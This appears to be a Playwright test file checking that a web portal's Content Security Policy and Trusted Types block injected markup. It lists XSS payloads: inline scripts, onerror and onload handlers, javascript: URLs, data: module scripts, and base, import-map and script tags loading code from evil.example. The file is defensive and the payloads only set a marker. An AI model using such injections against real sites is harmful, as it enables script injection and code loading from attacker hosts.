import type { Page } from '@playwright/test'
import { MAIN } from './mainTag'
import { alive, expect, test } from './portalTest'

declare global {
  interface Window {
    invaded?: string[]
  }
}

test.use({
  expectedComplaints: [
    /violates the following Content Security Policy|TrustedTypePolicy named 'invasor'|requires 'Trusted|evil\.example|preload/,
  ],
})

const AFTER_CONTENT = '<script id="boot"'

async function openWith(page: Page, markup: string) {
  await page.route(
    '**/quem-somos',
    async (route) => {
      const response = await route.fetch()
      const html = await response.text()
      expect(html).toContain(AFTER_CONTENT)
      await route.fulfill({ response, body: html.replace(AFTER_CONTENT, () => markup + AFTER_CONTENT) })
    },
    { times: 1 },
  )
  await page.goto('/quem-somos')
  await alive(page)
}

async function watchEvil(page: Page) {
  const asked: string[] = []
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url())
    return route.abort()
  })
  return asked
}

const invaded = (page: Page) => page.evaluate(() => window.invaded ?? [])
const INVADE = '(window.invaded??=[]).push(1)'

const BROUGHT = [
  `<script>${INVADE}</script>
  <img src="data:," onerror="${INVADE}">
  <iframe src="javascript:parent.${INVADE}"></iframe>
  <script src="/invasor.js"></script>
  <script type="module" src="/invasor.js"></script>
  <script src="https://evil.example/a.js"></script>
  <link rel="modulepreload" href="data:text/javascript,${INVADE}">
  <script type="module" src="data:text/javascript,${INVADE}"></script>`,
  '<base href="https://evil.example/">',
  `<script type="importmap">{"imports":{"/assets/":"https://evil.example/"}}</script>`,
]

test('injected HTML runs nothing', { tag: MAIN }, async ({ page }) => {
  const asked = await watchEvil(page)
  await page.route('**/invasor.js', (route) => route.fulfill({ contentType: 'text/javascript', body: INVADE }))
  for (const markup of BROUGHT) {
    await openWith(page, markup)
    await page.waitForLoadState('load')
    expect(await invaded(page), markup).toEqual([])
    expect(asked, markup).toEqual([])
  }
})

test('markup from a script loses active content and keeps the rest', async ({ page }) => {
  await page.goto('/quem-somos')
  await alive(page)
  const html = await page.evaluate((code) => {
    const box = document.createElement('div')
    document.body.append(box)
    box.innerHTML = `<b>Fica</b><img src="/x" onerror="${code}"><svg onload="${code}"></svg><iframe srcdoc="<script>${code}</script>"></iframe>`
    box.insertAdjacentHTML('beforeend', `<a href="javascript:${code}">Não leva</a>`)
    return box.innerHTML
  }, INVADE)
  expect(html).toContain('Fica')
  expect(html).not.toMatch(/on\w+=|javascript:|srcdoc/)
  expect(await invaded(page)).toEqual([])
})

test('script creation from text is refused', async ({ page }) => {
  await page.goto('/quem-somos')
  await alive(page)
  const outcomes = await page.evaluate(async (code) => {
    // Without this delay the code would run with the privileges of the test.
    await new Promise((resolve) => setTimeout(resolve))
    const attempts: Record<string, () => unknown> = {
      src: () => {
        document.createElement('script').src = '/invasor.js'
      },
      text: () => {
        document.createElement('script').textContent = code
      },
      compiled: () => new Function(code)(),
      attribute: () => document.createElement('div').setAttribute('onclick', code),
      policy: () => window.trustedTypes?.createPolicy('invasor', {}),
      'policy again': () => window.trustedTypes?.createPolicy('default', {}),
      worker: () => new Worker('/invasor.js'),
    }
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt()
        return [name]
      } catch {
        return []
      }
    })
  }, INVADE)
  expect(outcomes).toEqual([])
  expect(await invaded(page)).toEqual([])
})

test('a picture of a foreign host is not requested and counts in the metrics', async ({ page }) => {
  const counted = async () => {
    const metrics = await (await page.request.get('/metricas')).text()
    const line = metrics.split('\n').find((line) => /^portal_csp_violations_total.*"img-src".*"foreign"/.test(line))
    return Number(line?.split(' ').at(-1) ?? 0)
  }
  const asked = await watchEvil(page)
  const before = await counted()
  await page.goto('/quem-somos')
  await alive(page)
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/rastro.gif'
  })
  await expect.poll(counted).toBeGreaterThan(before)
  expect(asked).toEqual([])
})
